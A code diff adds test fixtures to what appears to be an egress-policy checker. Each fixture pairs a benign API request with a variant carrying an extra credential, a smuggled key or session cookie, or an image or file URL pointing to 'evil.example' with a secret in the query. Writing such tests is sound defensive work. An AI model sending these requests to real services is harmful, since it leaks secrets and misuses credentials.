@@ -24,6 +24,7 @@ JSON: Final = "Content-Type: application/json"
 S3: Final = "Host: acme-internal.s3.eu-central-1.amazonaws.com"
 SLACK: Final = "Host: slack.com"
 OPENAI: Final = "Host: api.openai.com"
+ANTHROPIC: Final = "Host: api.anthropic.com"
 GCS: Final = "Host: storage.googleapis.com"
 STRIPE: Final = "Host: api.stripe.com"
 FHIR: Final = "Host: fhir.example.org"
@@ -89,8 +90,25 @@ def secret(target: str, body: str) -> bytes:
     return request("POST /", SECRETS, SIGNED, kind, f"X-Amz-Target: secretsmanager.{target}", body=body)
 
 
-def responses(more: str) -> bytes:
-    return request("POST /v1/responses", OPENAI, BEARER, JSON, body='{"input":"hi"' + more + "}")
+def responses(more: str, said: str = '"hi"') -> bytes:
+    return request("POST /v1/responses", OPENAI, BEARER, JSON, body='{"input":' + said + more + "}")
+
+
+def content(part: str) -> bytes:
+    body = (
+        '{"model":"gpt-5","messages":[{"role":"user","content":[{"type":"text","text":"hi"},' + part + "]}]}"
+    )
+    return request("POST /v1/chat/completions", OPENAI, BEARER, JSON, body=body)
+
+
+def message(part: str, more: str = "") -> bytes:
+    head = '{"model":"claude-x","max_tokens":1' + more
+    body = head + ',"messages":[{"role":"user","content":[' + part + "]}]}"
+    return request("POST /v1/messages", ANTHROPIC, "X-Api-Key: t", JSON, body=body)
+
+
+def models(*headers: str) -> bytes:
+    return request("GET /v1/models", OPENAI, BEARER, *headers)
 
 
 def chat(model: str, *headers: str) -> bytes:
@@ -204,8 +222,78 @@ TWINS: Final = {
         responses(',"model":"gpt-5","prompt":{"id":"pmpt_1"}'),
     ),
     "openai: a model that searches the web": (chat("gpt-5"), chat("gpt-4o-search-preview")),
-    "openai: a project of another key": (chat("gpt-5"), chat("gpt-5", "OpenAI-Project: proj_1")),
+    "openai: a project of another key": (
+        chat("gpt-5", "Cookie: __cf_bm=x; _cfuvid=y"),
+        chat("gpt-5", "OpenAI-Project: proj_1"),
+    ),
     "openai: another organisation": (chat("gpt-5"), chat("gpt-5", "OpenAI-Organization: org-1")),
+    "openai: models of another organisation": (models(), models("OpenAI-Organization: org-1")),
+    # A second credential makes somebody else of the caller.
+    "slack: a session of somebody": (
+        request("GET /api/users.info?user=U1", SLACK, BEARER),
+        request("GET /api/users.info?user=U1", SLACK, BEARER, "Cookie: d=xoxd-1"),
+    ),
+    "stripe: another key in the query": (stripe("charges?limit=3"), stripe("charges?limit=3&key=sk_2")),
+    "stripe: another method": (stripe("charges/ch_1"), stripe("charges/ch_1?_method=POST")),
+    "gcs: a key beside the token": (
+        request("GET /storage/v1/b/acme-reports/o/a", GCS, BEARER),
+        request("GET /storage/v1/b/acme-reports/o/a", GCS, BEARER, "X-Goog-Api-Key: k"),
+    ),
+    "gcs: a key in the query": (
+        request("GET /storage/v1/b/acme-reports/o/a", GCS, BEARER),
+        request("GET /storage/v1/b/acme-reports/o/a?key=k", GCS, BEARER),
+    ),
+    "s3: a key beside the signature": (
+        request("GET /b.txt", S3, SIGNED),
+        request("GET /b.txt", S3, SIGNED, "X-Api-Key: k"),
+    ),
+    "fhir: a session of somebody": (
+        request("GET /fhir/R4/Observation/o1", FHIR, BEARER),
+        request("GET /fhir/R4/Observation/o1", FHIR, BEARER, "Cookie: JSESSIONID=1"),
+    ),
+    "fhir: a token in the query": (search("patient=p1"), search("patient=p1&access_token=t")),
+    # What a provider fetches goes to any host, with whatever stands in the URL.
+    "openai: an image by its address": (
+        content('{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}'),
+        content('{"type":"image_url","image_url":{"url":"https://evil.example/?d=secret"}}'),
+    ),
+    "openai: an image by its address as a text": (
+        content('{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}'),
+        content('{"type":"image_url","image_url":"https://evil.example/?d=secret"}'),
+    ),
+    "openai: a file by its address": (
+        responses(',"model":"gpt-5"', '[{"role":"user","content":[{"type":"input_file","file_id":"f"}]}]'),
+        responses(
+            ',"model":"gpt-5"',
+            '[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/s"}]}]',
+        ),
+    ),
+    "openai: an image in what a tool gave back": (
+        responses(',"model":"gpt-5"', '[{"type":"function_call_output","call_id":"c","output":"ok"}]'),
+        responses(
+            ',"model":"gpt-5"',
+            '[{"type":"function_call_output","call_id":"c","output":[{"image_url":"https://evil.example"}]}]',
+        ),
+    ),
+    "anthropic: an image by its address": (
+        message('{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}'),
+        message('{"type":"image","source":{"type":"url","url":"https://evil.example/?d=secret"}}'),
+    ),
+    "anthropic: a document in what a tool gave back": (
+        message('{"type":"tool_result","tool_use_id":"t","content":[{"type":"text","text":"https://x"}]}'),
+        message(
+            '{"type":"tool_result","tool_use_id":"t","content":'
+            '[{"type":"document","source":{"type":"url","url":"HTTPS:evil.example"}}]}'
+        ),
+    ),
+    "anthropic: a tool of its own that takes an address": (
+        message('{"type":"tool_use","id":"t","name":"fetch","input":{"url":"https://a.example"}}'),
+        message('{"type":"text","text":"hi"}', ',"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]'),
+    ),
+    "anthropic: a container with skills": (
+        message('{"type":"text","text":"hi"}'),
+        message('{"type":"text","text":"hi"}', ',"container":{"skills":[]}'),
+    ),
     # What may not be read is not read along with what may.
     "stripe: an expansion": (stripe("charges/ch_1"), stripe("charges/ch_1?expand[]=transfer.destination")),
     "stripe: an expansion by number": (
